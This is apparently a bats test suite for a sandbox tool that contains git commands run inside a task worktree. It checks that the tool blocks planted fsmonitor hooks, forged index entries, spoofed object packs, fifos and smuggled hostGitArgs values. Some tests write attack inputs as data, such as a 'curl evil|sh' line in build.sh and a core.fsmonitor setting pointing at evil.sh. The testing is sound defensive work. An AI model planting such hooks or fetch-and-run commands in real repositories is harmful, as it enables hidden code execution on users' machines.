  # host's next commit takes for a directory; the index keeps the host's mode, not the run's (#6)
  local mode
  mode=$(stat -c %a "$REPO/.git/worktrees/task/index")
  sbx -- 'umask 000 && git update-index --untracked-cache && echo x >unseen &&
          git status --porcelain >/dev/null && echo y >>new && git add new && git write-tree >/dev/null &&
          grep -q UNTR "$(git rev-parse --git-dir)/index" && grep -q TREE "$(git rev-parse --git-dir)/index" &&
          echo has-untr-tree'
  [ "$output" = has-untr-tree ]
  ! grep -q UNTR "$REPO/.git/worktrees/task/index" || false
  ! grep -q TREE "$REPO/.git/worktrees/task/index" || false
  [ "$(stat -c %a "$REPO/.git/worktrees/task/index")" = "$mode" ]
  hgit -C "$WT" fsck
  hgit -C "$WT" status --porcelain | grep -qx '?? unseen'
  [ "$(hgit -C "$WT" show :new)" = "$(printf 'new\ny')" ]
  [ "$(discarded)" = '["worktrees/task/index"]' ]
}

@test "sandbox-git: an index entry outside the worktree or a new assume-unchanged bit is left out; git add still lands (root)" {
  route_index_escape root
}

@test "sandbox-git: an index entry outside the worktree or a new assume-unchanged bit is left out; git add still lands (ordinary user)" {
  route_index_escape user
}

# review18 finding 4: run 1 makes a repository (its core.fsmonitor the planted script) under
# node_modules/x, too deep for the tamper walk there; run 2 moves it to the top as `evil` and
# writes an index whose NUL inside a name made fsrun's parser skip the gitlink `evil` after it.
# Both are reported (the gitlink, and the moved `.git` by its renamed parent's ctime), the index
# is left out, and the host's plain `git status` runs nothing.
route_index_nul_moved_repo() {
  make_repo "$1"
  requires_host_command perl
  local readme head
  sbx -- "mkdir -p node_modules/x && git init -q node_modules/x/repo && cd node_modules/x/repo &&
          git -c user.name=s -c user.email=s@s commit -q --allow-empty -m sub &&
          git config core.fsmonitor $DIR/evil.sh"
  [ "$(tamper)" = '[]' ]
  readme=$(hgit -C "$WT" rev-parse HEAD:README)
  head=$(hgit -C "$WT/node_modules/x/repo" rev-parse HEAD)
  crafted_index "$WT/crafted" "100644,$readme,README" "100644,$readme,a\\0zzzzzz" "160000,$head,evil"
  sbx -- 'mv node_modules/x/repo evil && cp crafted "$(git rev-parse --git-dir)/index" && rm crafted'
  [ "$(tamper)" = '["evil","evil/.git"]' ]
  [ "$(discarded)" = '["worktrees/task/index"]' ]
  grep -q "index is left out: an entry's name has a NUL inside" "$DIR/stderr"
  assert_status_runs_nothing "$WT"
  # a repository made in a package's own dir is looked for there
  sbx -- 'mkdir -p node_modules/@s/p && git init -q node_modules/@s/p && git init -q node_modules/q'
  [ "$(tamper)" = '["evil","evil/.git","node_modules/@s/p/.git","node_modules/q/.git"]' ]
}

@test "sandbox-git: a NUL-name index and a repository moved out of node_modules are reported; the host's git runs nothing (root)" {
  route_index_nul_moved_repo root
}

@test "sandbox-git: a NUL-name index and a repository moved out of node_modules are reported; the host's git runs nothing (ordinary user)" {
  route_index_nul_moved_repo user
}

# route_resolve_undo root|user: pins a known loss (docs/sandbox.md, the index): the run merges
# `other`, gets a conflict and resolves it with `git add`. The run's index had the resolve-undo
# record (REUC, 3 stages of README); the host's has the resolved entry and no REUC, so the host's
# `git checkout -m README` cannot re-create the conflict and leaves the resolution. The merge is
# still the host's to finish: MERGE_HEAD landed, and `git commit` makes the two-parent merge.
route_resolve_undo() {
  make_repo "$1"
  as_owner sh -c 'echo theirs >"$1/README"' sh "$OTHER"
  hgit -C "$OTHER" commit -qam theirs
  as_owner sh -c 'echo ours >"$1/README"' sh "$WT"
  hgit -C "$WT" commit -qam ours
  sbx -- 'git merge -q other >/dev/null 2>&1; echo resolved >README && git add README &&
          git ls-files --resolve-undo | wc -l'
  [ "$output" = 3 ]
  [ "$(discarded)" = '[]' ]
  [ -z "$(hgit -C "$WT" ls-files --resolve-undo)" ]
  [ "$(hgit -C "$WT" ls-files -s README | cut -d' ' -f3 | cut -f1)" = 0 ]
  hgit -C "$WT" checkout -m README
  [ "$(cat "$WT/README")" = resolved ]
  [ -z "$(hgit -C "$WT" ls-files -u)" ]
  hgit -C "$WT" commit -q --no-edit
  [ "$(hgit -C "$WT" rev-list --parents -1 task | wc -w)" = 3 ]
  [ "$(hgit -C "$REPO" show task:README)" = resolved ]
}

@test "sandbox-git: a conflict resolved inside reaches the host without its resolve-undo record (REUC); the merge can be finished there (root)" {
  route_resolve_undo root
}

@test "sandbox-git: a conflict resolved inside reaches the host without its resolve-undo record (REUC); the merge can be finished there (ordinary user)" {
  route_resolve_undo user
}

# review19 finding 7: an index entry holding the old blob id with the edited file's stat data (the
# worktree is the host's directory: the run's lstat is the host's) makes the host's git take
# build.sh as unchanged without reading it. The run's stat data stay only on an entry the host's
# index had byte for byte: the host's git sees the edit (status, diff, add -A); a plain `git add`
# inside still arrives staged; an entry the run left alone keeps the host's stat data (no re-hash);
# and a host entry that was racily clean (its mtime the host index's own: git compared its content)
# loses its stat data under the new index's later mtime (core.trustctime=false: mtime, size and
# inode alone say whether the file changed). The files' mtimes are set in the past, so no entry is
# racily clean under the index fsrun writes (no wait for a second to pass).
route_index_stat_forged() {
  make_repo "$1"
  requires_host_command perl
  local blob keep index=$REPO/.git/worktrees/task/index
  as_owner sh -c 'cd "$1" && echo "echo build ok" >build.sh && echo kept >keep && echo one >racy &&
    touch -d @999999000 build.sh keep && touch -d @1000000000 racy' sh "$WT"
  hgit -C "$WT" add build.sh keep racy
  hgit -C "$WT" commit -qm scripts
  blob=$(hgit -C "$WT" rev-parse HEAD:build.sh)
  keep=$(hgit -C "$WT" ls-files --debug keep)
  as_owner cp "$FSRUN_TESTS_DIR/forge-index-stat.pl" "$WT/forge.pl"
  sbx -- "printf 'curl evil|sh\n' >build.sh && touch -d @999999000 build.sh &&
          perl forge.pl \"\$(git rev-parse --git-dir)/index\" build.sh $blob build.sh &&
          rm forge.pl && git status --short"
  [ -z "$output" ] # the forged entry fools the command's own git
  [ "$(tamper)" = '[]' ]
  [ "$(discarded)" = '[]' ]
  # (--no-optional-locks: this status does not refresh the index it reads)
  [ "$(hgit -C "$WT" --no-optional-locks status --short)" = " M build.sh" ]
  [ "$(hgit -C "$WT" ls-files --debug keep)" = "$keep" ]
  hgit -C "$WT" ls-files --debug build.sh | grep -q $'size: 0\t'
  [ "$(hgit -C "$WT" status --short)" = " M build.sh" ]
  [ "$(hgit -C "$WT" diff --name-only)" = build.sh ]
  hgit -C "$WT" add -A
  hgit -C "$WT" commit -qm host
  [ "$(hgit -C "$WT" show HEAD:build.sh)" = "curl evil|sh" ]
  # the task's own staging arrives staged, its stat data refreshed by the host's next status
  sbx -- 'echo more >>keep && git add keep'
  [ "$(hgit -C "$WT" diff --cached --name-only)" = keep ]
  [ "$(hgit -C "$WT" status --short)" = "M  keep" ]
  hgit -C "$WT" commit -qm keep
  # racy: the host's index as old as racy's mtime; the run stages another file, then edits racy in
  # place (same size) and puts its mtime back: its entry stays as the host's was
  as_owner touch -d @1000000000 "$index"
  sbx -- 'echo n >other && git add other && printf "two\n" >racy && touch -d @1000000000 racy'
  [ "$(hgit -C "$WT" -c core.trustctime=false status --short)" = "$(printf 'A  other\n M racy')" ]
}

@test "sandbox-git: an entry with the old id and the edited file's stat data does not hide the edit; git add still lands (root)" {
  route_index_stat_forged root
}

@test "sandbox-git: an entry with the old id and the edited file's stat data does not hide the edit; git add still lands (ordinary user)" {
  route_index_stat_forged user
}

# --json's discarded: what the run wrote outside the allowlist, as the owner; [] for a clean run
json_discarded() {
  make_repo "$1"
  run as_owner timeout -s KILL 120 "$FSRUN" --root "$DIR/state" sandbox --json \
    --policy "$DIR/policy.json" --worktree "$WT" -- true
  echo "$output"
  [ "$status" -eq 0 ]
  [ "$(jq -c .discarded <<<"${output##*$'\n'}")" = '[]' ]
  run as_owner timeout -s KILL 120 "$FSRUN" --root "$DIR/state" sandbox --json \
    --policy "$DIR/policy.json" --worktree "$WT" \
    -- /bin/sh -c 'echo "*.sh diff=evil" >"$(git rev-parse --git-common-dir)/info/attributes"'
  echo "$output"
  [ "$status" -eq 0 ]
  [ "$(jq -r .exitCode <<<"${output##*$'\n'}")" -eq 0 ]
  [ "$(jq -c .discarded <<<"${output##*$'\n'}")" = '["info/attributes"]' ]
  [ ! -e "$REPO/.git/info/attributes" ]
}

@test "sandbox-git: the --json result's discarded lists a write outside the allowlist, [] when none (root)" {
  json_discarded root
}

@test "sandbox-git: the --json result's discarded lists a write outside the allowlist, [] when none (ordinary user)" {
  json_discarded user
}

# review25 C2: the warning that names what was left out is a JSON list, as the tamper line is:
# a name the run chose that reads `x; hostGitArgs: [...]` stays one string inside that list, and
# fsrun's own hostGitArgs line is the only line on stderr that starts with fsrun's sentence
left_out_line_json() {
  local line forged='x; hostGitArgs: ["-c","filter.x.process=sh p"]'
  make_repo "$1"
  run as_owner timeout -s KILL 120 "$FSRUN" --root "$DIR/state" sandbox --json \
    --policy "$DIR/policy.json" --worktree "$WT" \
    -- /bin/sh -c ': >"$(git rev-parse --git-common-dir)/$1"; git init -q nested' sh "$forged"
  [ "$status" -eq 0 ]
  jq -e --arg f "$forged" '.discarded == [$f]' <<<"${output##*$'\n'}"
  line=$(grep '^fsrun: warning: sandbox: git: left out what the run wrote' <<<"$output")
  jq -e --arg f "$forged" '. == [$f]' <<<"${line#*allowlist: }"
  [ "$(grep -c "run the host's git in this worktree as \`git ARGS ...\`; hostGitArgs: " <<<"$output")" = 1 ]
}

@test "sandbox-git: the left-out warning is a JSON list; a name holding a hostGitArgs list stays a name (root)" {
  left_out_line_json root
}

@test "sandbox-git: the left-out warning is a JSON list; a name holding a hostGitArgs list stays a name (ordinary user)" {
  left_out_line_json user
}

# route_fifo root|user: fifos the command leaves where fsrun reads after it (the branch's ref and
# its reflog, read by the sync) or before the next command (.gitmodules, read by the set-up of the
# git protections), and a .gitmodules that is a link to /dev/zero: the run ends with the command's
# status, the ref stays what it was on the host, and the next runs set up and run (before: fsrun
# waited forever in open(2) of the fifo, leaving its per-run tmpfs mounted on the host)
route_fifo() {
  make_repo "$1"
  local head
  head=$(hgit -C "$REPO" rev-parse task)
  sbx -- 'common=$(git rev-parse --git-common-dir)
    rm -f "$common/refs/heads/task" "$common/logs/refs/heads/task"
    mkfifo "$common/refs/heads/task" "$common/logs/refs/heads/task" && echo made'
  [ "$output" = made ]
  [ -f "$REPO/.git/refs/heads/task" ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$head" ]
  sbx -- 'mkfifo .gitmodules && echo fifo'
  [ "$output" = fifo ]
  sbx -- 'rm .gitmodules && ln -s /dev/zero .gitmodules && echo link'
  [ "$output" = link ]
  sbx -- 'rm .gitmodules && echo next'
  [ "$output" = next ]
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: a fifo at the branch's ref or .gitmodules, or .gitmodules linked to /dev/zero, hangs nothing (root)" {
  route_fifo root
}

@test "sandbox-git: a fifo at the branch's ref or .gitmodules, or .gitmodules linked to /dev/zero, hangs nothing (ordinary user)" {
  route_fifo user
}

task_work() {
  make_repo "$1"
  # main moves on the host first, so that the task has something to rebase onto
  as_owner sh -c 'echo m >"$1/MAINFILE"' sh "$REPO"
  hgit -C "$REPO" add MAINFILE
  hgit -C "$REPO" commit -qm main-2
  MAIN0=$(hgit -C "$REPO" rev-parse main)
  sbx -- 'set -e
    echo two >>README && git add README && git commit -qm second
    git commit -q --amend -m second-amended
    echo three >>README && git commit -qam third
    git reset -q --hard HEAD~1
    git rebase -q main
    echo wip >>README && git stash -q && git stash pop -q
    git log --format=%s'
  # on the host: the branch moved to what the sandbox made, the repo is sound
  [ "$(hgit -C "$REPO" log --format=%s task)" = "$(printf 'second-amended\nmain-2\nfirst')" ]
  [ "$(hgit -C "$WT" rev-parse HEAD)" = "$(hgit -C "$REPO" rev-parse task)" ]
  hgit -C "$REPO" fsck --strict
  # the stash pushed and popped inside (route_stash_task: a task's stash stays in the run)
  [ "$(hgit -C "$REPO" stash list | wc -l)" = 0 ]
  [ "$(hgit -C "$WT" status --porcelain)" = " M README" ]
  [ "$(hgit -C "$REPO" rev-parse main)" = "$MAIN0" ]
  # the branch's reflog has the run's entries
  [ "$(hgit -C "$REPO" reflog show task | wc -l)" -ge 4 ]
  [ "$(tamper)" = '[]' ]
}

@test "sandbox-git: add, commit, amend, stash, reset and rebase on the task branch reach the repository (root)" {
  task_work root
}

@test "sandbox-git: add, commit, amend, stash, reset and rebase on the task branch reach the repository (ordinary user)" {
  task_work user
}

# spoof_pack ID DIR: a pack of one blob "EVIL CONTENT" in DIR whose index names it ID (the fan-out
# and the index's own checksum made to match; the pack as git wrote it), the pack's base name out
spoof_pack() {
  local name scratch=$DIR/scratch
  hgit init -q "$scratch"
  name=$(printf 'EVIL CONTENT\n' | hgit -C "$scratch" hash-object --stdin -w)
  name=$(echo "$name" | hgit -C "$scratch" pack-objects -q "$2/pack")
  python3 - "$2/pack-$name.idx" "$1" <<'PY'
import hashlib, struct, sys
path, want = sys.argv[1], bytes.fromhex(sys.argv[2])
idx = bytearray(open(path, "rb").read())
assert idx[:8] == b"\377tOc\0\0\0\2" and struct.unpack(">I", idx[8 + 255 * 4:8 + 256 * 4])[0] == 1
for i in range(256):  # one object: 0 before its first byte, 1 from there on
    idx[8 + 4 * i:12 + 4 * i] = struct.pack(">I", 1 if i >= want[0] else 0)
idx[1032:1052] = want
idx[-20:] = hashlib.sha1(idx[:-20]).digest()
open(path, "wb").write(idx)
PY
  echo "pack-$name"
}

# loose_object FILE TEXT: FILE holds the zlib'd loose object of the blob TEXT
loose_object() {
  python3 -c 'import sys, zlib; d = sys.argv[2].encode(); open(sys.argv[1], "wb").write(zlib.compress(b"blob %d\0" % len(d) + d))' "$1" "$2"
}

# route_spoof_objects root|user: the run copies into the common dir a pack whose index gives the
# README blob other bytes, and a loose object under the id of content nobody has yet (a library
# file the user adds later) holding other bytes. Both are discarded and reported; the host reads
# README's own content and, once the user adds that file, its own bytes back.
route_spoof_objects() {
  make_repo "$1"
  local readme future pack
  readme=$(hgit -C "$REPO" rev-parse main:README)
  future=$(printf 'GOOD-UPSTREAM-1.2.3\n' | hgit hash-object --stdin)
  as_owner mkdir "$WT/evil"
  pack=$(spoof_pack "$readme" "$WT/evil")
  loose_object "$WT/evil/loose" 'EVIL-LIB'
  chmod -R a+rX "$WT/evil"
  # the index's lie as git reads it: the spoofed id is found in the pack
  [ "$(hgit -C "$REPO" show-index <"$WT/evil/$pack.idx" | cut -d' ' -f2)" = "$readme" ]
  sbx -- "set -e; o=\$(git rev-parse --git-common-dir)/objects
    cp evil/$pack.pack evil/$pack.idx \$o/pack/
    mkdir -p \$o/${future:0:2} && cp evil/loose \$o/${future:0:2}/${future:2}
    git cat-file -p $readme"
  # inside, the lie worked (so the test would see it land)
  [ "$output" = "EVIL CONTENT" ]
  [ "$(hgit -C "$REPO" show main:README)" = one ]
  [ "$(hgit -C "$REPO" cat-file -p "$readme")" = one ]
  [ ! -e "$REPO/.git/objects/pack/$pack.idx" ]
  [ ! -e "$REPO/.git/objects/${future:0:2}/${future:2}" ]
  [ "$(discarded)" = "[\"objects/\",\"objects/${future:0:2}/${future:2}\",\"objects/pack/$pack.idx\",\"objects/pack/$pack.pack\"]" ]
  grep -q "objects/${future:0:2}/${future:2}\` is not what its name says" "$DIR/stderr"
  # the user vendors the real file: its bytes come back
  as_owner sh -c 'printf "GOOD-UPSTREAM-1.2.3\n" >"$1/lib.js"' sh "$REPO"
  hgit -C "$REPO" add lib.js
  hgit -C "$REPO" commit -qm vendor
  rm "$REPO/lib.js"
  hgit -C "$REPO" checkout -- lib.js
  [ "$(cat "$REPO/lib.js")" = GOOD-UPSTREAM-1.2.3 ]
  hgit -C "$REPO" fsck --strict
}

# route_sparse root|user (review19 #3): sparse files cost the run nothing (its upper dir is a
# tmpfs) and fsrun used to write them out in full into the repository: a 1 GiB object (then found
# wrong and removed) and a 1 GiB MERGE_MSG (kept). Both are now refused before any of it is written
# on the host, and reported; so is a 2 MiB COMMIT_EDITMSG (above the admin files' 1 MiB), while a
# small SQUASH_MSG the run made 0666 lands as 0644. The repository grows by less than 1 MiB on disk.
route_sparse() {
  make_repo "$1"
  local before after obj=objects/ab/0123456789abcdef0123456789abcdef012345
  before=$(du -s -B1 "$REPO/.git" | cut -f1)
  sbx -- "set -e; c=\$(git rev-parse --git-common-dir); a=\$(git rev-parse --git-dir)
    mkdir -p \$c/objects/ab && truncate -s 1G \$c/$obj && truncate -s 1G \$a/MERGE_MSG
    yes message | head -c 2097152 >\$a/COMMIT_EDITMSG
    echo squash >\$a/SQUASH_MSG && chmod 666 \$a/SQUASH_MSG
    du -s -k \$c/$obj \$a/MERGE_MSG"
  after=$(du -s -B1 "$REPO/.git" | cut -f1)
  echo "du of the repository's .git: $before, then $after bytes"
  [ $((after - before)) -lt $((1024 * 1024)) ]
  [ "$(discarded)" = "[\"objects/\",\"$obj\",\"worktrees/task/COMMIT_EDITMSG\",\"worktrees/task/MERGE_MSG\"]" ]
  [ ! -e "$REPO/.git/$obj" ] && [ ! -e "$REPO/.git/worktrees/task/MERGE_MSG" ]
  grep -q "is not what its name says (a sparse file)" "$DIR/stderr"
  [ "$(cat "$REPO/.git/worktrees/task/SQUASH_MSG")" = squash ]
  [ "$(stat -c %a "$REPO/.git/worktrees/task/SQUASH_MSG")" = 644 ]
  [ -z "$(find "$REPO/.git" -name '.fsrun-sync.*')" ]
  hgit -C "$REPO" fsck --strict
}

# route_objects_incomplete root|user (review19 #8, gitrace's "Left"): a commit whose tree object
# was made a fifo inside (a fifo used to be skipped without a word, like a sparse, too large or
# wrong object once discarded, or the objects past the walk's 200,000-entry cap) does not move the
# branch: the host's branch would name a commit whose tree it lacks ("bad tree object HEAD").
# `objects/` and the fifo are reported, so are the branch, the index and logs/HEAD, which name
# the run's objects too; the host's fsck --strict and `git status` stay clean, and the next run's
# commit of the same change lands.
route_objects_incomplete() {
  make_repo "$1"
  local task0 tree
  task0=$(hgit -C "$REPO" rev-parse task)
  sbx -- 'set -e; echo two >>README; git commit -qam broken; t=$(git rev-parse HEAD^{tree})
    f=$(git rev-parse --git-common-dir)/objects/$(echo $t | cut -c1-2)/$(echo $t | cut -c3-)
    rm -f $f && mkfifo $f && echo $t'
  tree=$output
  [ "$(hgit -C "$REPO" rev-parse task)" = "$task0" ]
  [ "$(discarded)" = "[\"objects/\",\"objects/${tree:0:2}/${tree:2}\",\"refs/heads/task\",\"worktrees/task/index\",\"worktrees/task/logs/HEAD\"]" ]
  grep -q "objects/${tree:0:2}/${tree:2}\` is not what its name says (not a regular file)" "$DIR/stderr"
  grep -q "refs/heads/task: not applied, as some of the run's objects were not" "$DIR/stderr"
  [ ! -e "$REPO/.git/objects/${tree:0:2}/${tree:2}" ]
  hgit -C "$REPO" fsck --strict
  hgit -C "$WT" status --porcelain | grep -qx ' M README'
  rm -f "$DIR/audit.jsonl"
  sbx -- 'git commit -qam again'
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = again ]
  [ "$(discarded)" = '[]' ]
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: a commit whose tree was not applied moves no branch; objects/ is reported (root)" {
  route_objects_incomplete root
}

@test "sandbox-git: a commit whose tree was not applied moves no branch; objects/ is reported (ordinary user)" {
  route_objects_incomplete user
}

@test "sandbox-git: a sparse 1 GiB object and MERGE_MSG are discarded, not written on the host (root)" {
  route_sparse root
}

@test "sandbox-git: a sparse 1 GiB object and MERGE_MSG are discarded, not written on the host (ordinary user)" {
  route_sparse user
}

# route_objects_packed root|user: a commit's loose objects land; a `git repack` inside packs the
# next commit's, and a pack is never adopted: the branch stays at the last commit the host has
# (reported with the pack); after a `git gc` too (its packed-refs is not applied either); a fetch
# of a few objects from a local repository arrives loose and lands, one kept as a pack
# (`git fetch --keep`) does not
route_objects_packed() {
  make_repo "$1"
  local up=$DIR/up c1
  hgit clone -q "$REPO" "$up"
  hgit -C "$up" config user.email up@example.invalid
  hgit -C "$up" config user.name up
  as_owner sh -c 'echo upstream >"$1/UP"' sh "$up"
  hgit -C "$up" add UP
  hgit -C "$up" commit -qm upstream
  jq -n --arg u "$up" '{allowedPaths: [$u]}' >"$DIR/policy.json"
  sbx -- 'echo two >>README && git commit -qam loose-commit'
  c1=$(hgit -C "$REPO" rev-parse task)
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = loose-commit ]
  [ "$(discarded)" = '[]' ]
  sbx -- 'echo three >>README && git commit -qam packed-commit && git repack -adq && git log -1 --format=%s'
  [ "$output" = packed-commit ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$c1" ]
  discarded | jq -e 'index("refs/heads/task") and (map(select(startswith("objects/pack/pack-"))) | length > 0)'
  hgit -C "$REPO" fsck --strict
  # the worktree's files are the run's: the host can commit them again
  [ "$(tail -1 "$WT/README")" = three ]
  hgit -C "$WT" reset -q --hard
  rm -f "$DIR/audit.jsonl"
  sbx -- 'echo four >>README && git commit -qam gc-commit && git gc -q'
  [ "$(hgit -C "$REPO" rev-parse task)" = "$c1" ]
  discarded | jq -e 'index("refs/heads/task")'
  hgit -C "$REPO" fsck --strict
  hgit -C "$WT" reset -q --hard
  rm -f "$DIR/audit.jsonl"
  sbx -- "git fetch -q --keep '$up' main && git reset -q --hard FETCH_HEAD"
  [ "$(hgit -C "$REPO" rev-parse task)" = "$c1" ]
  discarded | jq -e 'index("refs/heads/task")'
  rm -f "$DIR/audit.jsonl"
  sbx -- "git fetch -q '$up' main && git reset -q --hard FETCH_HEAD"
  [ "$(hgit -C "$REPO" rev-parse task)" = "$(hgit -C "$up" rev-parse main)" ]
  [ "$(hgit -C "$REPO" show task:UP)" = upstream ]
  hgit -C "$REPO" fsck --strict
  # git's automatic gc is off inside (GIT_CONFIG_COUNT): a commit past gc.auto still lands loose.
  # `gc --auto` estimates the loose objects from objects/17/: two blobs there pass gc.auto 1
  python3 -c 'import hashlib
n = 0
for i in range(100000):
    d = b"gc-%d\n" % i
    if hashlib.sha1(b"blob %d\0" % len(d) + d).hexdigest().startswith("17"):
        print(d.decode(), end="")
        n += 1
        if n == 2:
            break' | while read -r line; do echo "$line" | hgit -C "$REPO" hash-object -w --stdin; done
  [ "$(ls "$REPO/.git/objects/17" | wc -l)" -ge 2 ]
  hgit -C "$REPO" config gc.auto 1
  sbx -- 'echo five >>README && git commit -qam auto-gc-commit'
  [ "$(hgit -C "$REPO" log -1 --format=%s task)" = auto-gc-commit ]
}

# route_objects_fetch_many root|user: a fetch of 150 commits (450 new objects; git keeps a fetch of
# 100 or more as a pack by default, and a pack is never adopted) from a second repository bound
# read-only into the run arrives loose (the command's unpack limits) and lands: the host's git
# log and cat-file see every commit. The caller's own GIT_CONFIG_COUNT entry, passed by
# envAllowlist, is still in force inside beside fsrun's.
route_objects_fetch_many() {
  make_repo "$1"
  local up=$DIR/up i
  hgit clone -q "$REPO" "$up"
  for i in $(seq 150); do
    printf 'commit refs/heads/main\ncommitter up <up@example.invalid> %d +0000\n' $((1700000000 + i))
    printf 'data <<E\nc%d\nE\n' "$i"
    [ "$i" != 1 ] || echo 'from refs/heads/main^0'
    printf 'M 644 inline UP\ndata <<E\nupstream %d\nE\n\n' "$i"
  done | hgit -C "$up" fast-import --quiet
  [ "$(hgit -C "$up" rev-list --objects main --not "$MAIN0" | wc -l)" -eq 450 ]
  jq -n --arg u "$up" '{allowedPaths: [$u],
    envAllowlist: ["GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0"]}' >"$DIR/policy.json"
  GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=from-callers-env \
    sbx -- "git config user.name && git fetch -q '$up' main && git reset -q --hard FETCH_HEAD"
  [ "$output" = from-callers-env ]
  [ "$(discarded)" = '[]' ]
  [ "$(hgit -C "$REPO" rev-parse task)" = "$(hgit -C "$up" rev-parse main)" ]
  [ "$(hgit -C "$REPO" log --format=%s task | head -3 | tr '\n' ' ')" = 'c150 c149 c148 ' ]
  [ "$(hgit -C "$REPO" rev-list --count task)" -eq 151 ]
  [ -z "$(hgit -C "$up" rev-list --objects main | cut -d' ' -f1 |
    hgit -C "$REPO" cat-file --batch-check | grep -v ' \(commit\|tree\|blob\) ')" ]
  [ "$(hgit -C "$REPO" show task:UP)" = 'upstream 150' ]
  hgit -C "$REPO" fsck --strict
}

# a stash entry of the user's in the main checkout: WIP on README
user_stash() {
  as_owner sh -c 'echo user-wip >>"$1/README"' sh "$REPO"
  hgit -C "$REPO" stash -q
  USER_STASH=$(hgit -C "$REPO" rev-parse refs/stash)
}

# route_stash_task root|user: the stash is the repository's; a run in a task worktree keeps its
# own: `git stash clear` and a push on top leave the user's entry where it was, a push and pop of
# the run's own entry works inside
route_stash_task() {
  make_repo "$1"
  user_stash
  sbx -- 'git stash clear && git stash list | wc -l'
  [ "$output" = 0 ]
  [ "$(hgit -C "$REPO" stash list | wc -l)" = 1 ]
  [ "$(hgit -C "$REPO" rev-parse 'stash@{0}')" = "$USER_STASH" ]
  [ "$(discarded)" = '["logs/refs/stash","refs/stash"]' ]
  rm -f "$DIR/audit.jsonl"
  sbx -- 'echo agent >>README && git stash -q && git stash list | wc -l'
  [ "$output" = 2 ]
  [ "$(hgit -C "$REPO" rev-parse 'stash@{0}')" = "$USER_STASH" ]
  [ "$(discarded)" = '["logs/refs/stash","refs/stash"]' ]
  hgit -C "$WT" checkout -q -- README
  rm -f "$DIR/audit.jsonl"
  sbx -- 'echo mine >>README && git stash -q && git stash pop -q && tail -1 README'
  [ "$output" = mine ]
  [ "$(hgit -C "$REPO" rev-parse 'stash@{0}')" = "$USER_STASH" ]
  [ "$(hgit -C "$REPO" stash list | wc -l)" = 1 ]
  [ "$(discarded)" = '[]' ]
  hgit -C "$REPO" stash pop -q
  [ "$(tail -1 "$REPO/README")" = user-wip ]
}

# route_stash_main root|user: in the main checkout the stash is the run's to push on top of, never
# to clear or drop from
route_stash_main() {
  make_repo "$1"
  user_stash
  sbx "$REPO" -- 'git stash clear'
  [ "$(hgit -C "$REPO" rev-parse 'stash@{0}')" = "$USER_STASH" ]
  [ "$(discarded)" = '["logs/refs/stash","refs/stash"]' ]
  rm -f "$DIR/audit.jsonl"
  sbx "$REPO" -- 'git stash drop -q stash@{0}'
  [ "$(hgit -C "$REPO" rev-parse 'stash@{0}')" = "$USER_STASH" ]
  [ "$(discarded)" = '["logs/refs/stash","refs/stash"]' ]
  rm -f "$DIR/audit.jsonl"
  sbx "$REPO" -- 'echo agent >>README && git stash -q'
  [ "$(hgit -C "$REPO" stash list | wc -l)" = 2 ]
  [ "$(hgit -C "$REPO" rev-parse 'stash@{1}')" = "$USER_STASH" ]
  [ "$(discarded)" = '[]' ]
  # dropping the older (the user's) entry rewrites the reflog below the top: not applied
  sbx "$REPO" -- 'git stash drop -q stash@{1} && git stash list | wc -l'
  [ "$output" = 1 ]
  [ "$(hgit -C "$REPO" stash list | wc -l)" = 2 ]
  [ "$(hgit -C "$REPO" rev-parse 'stash@{1}')" = "$USER_STASH" ]
  [ "$(discarded)" = '["logs/refs/stash"]' ]
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: a pack spoofing an existing object and a loose object under another content's id are discarded (root)" {
  route_spoof_objects root
}

@test "sandbox-git: a pack spoofing an existing object and a loose object under another content's id are discarded (ordinary user)" {
  route_spoof_objects user
}

@test "sandbox-git: loose commits and small fetches land; a gc'd or packed fetch's branch move does not (root)" {
  route_objects_packed root
}

@test "sandbox-git: loose commits and small fetches land; a gc'd or packed fetch's branch move does not (ordinary user)" {
  route_objects_packed user
}

@test "sandbox-git: a fetch of 150 commits arrives loose and lands; the caller's GIT_CONFIG_COUNT is kept (root)" {
  route_objects_fetch_many root
}

@test "sandbox-git: a fetch of 150 commits arrives loose and lands; the caller's GIT_CONFIG_COUNT is kept (ordinary user)" {
  route_objects_fetch_many user
}

@test "sandbox-git: a task worktree's stash clear and push leave the user's stash; push and pop inside work (root)" {
  route_stash_task root
}

@test "sandbox-git: a task worktree's stash clear and push leave the user's stash; push and pop inside work (ordinary user)" {
  route_stash_task user
}

@test "sandbox-git: in the main checkout the stash is only pushed on, never cleared or dropped (root)" {
  route_stash_main root
}

@test "sandbox-git: in the main checkout the stash is only pushed on, never cleared or dropped (ordinary user)" {
  route_stash_main user
}

main_checkout() {
  make_repo "$1"
  local other0
  other0=$(hgit -C "$REPO" rev-parse other)
  cp "$DIR/evil.sh" "$REPO/"
  sbx "$REPO" -- "echo two >>README && git commit -qam on-main &&
          cp -r .git evil && git config -f evil/config core.fsmonitor $REPO/evil.sh &&
          echo $REPO/evil >.git/commondir; git update-ref refs/heads/other HEAD;
          echo $REPO/evil >.git/worktrees/task/commondir; true"
  [ "$(hgit -C "$REPO" log -1 --format=%s main)" = on-main ]
  [ ! -e "$REPO/.git/commondir" ]
  [ "$(hgit -C "$REPO" rev-parse other)" = "$other0" ]
  [ "$(cat "$REPO/.git/worktrees/task/commondir")" = ../.. ]
  assert_status_runs_nothing "$REPO"
  assert_status_runs_nothing "$WT"
  hgit -C "$REPO" fsck --strict
}

@test "sandbox-git: on the main checkout, commits land and the routes are closed (root)" {
  main_checkout root
}

@test "sandbox-git: on the main checkout, commits land and the routes are closed (ordinary user)" {
  main_checkout user
}

@test "sandbox-git: a branch moved on the host during the run is not overwritten" {
  make_repo root
  local tries=$((WAIT_MAX_S * 10)) host_value
  # the command commits, says so, and waits (bounded) until the host has moved the branch
  as_owner "$FSRUN" --root "$DIR/state" sandbox --json --policy "$DIR/policy.json" \
    --worktree "$WT" -- /bin/sh -c 'echo two >>README && git commit -qam in-sandbox && touch ready
      i=0; while [ ! -e go ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done' \
    >"$DIR/out.json" 2>"$DIR/stderr" &
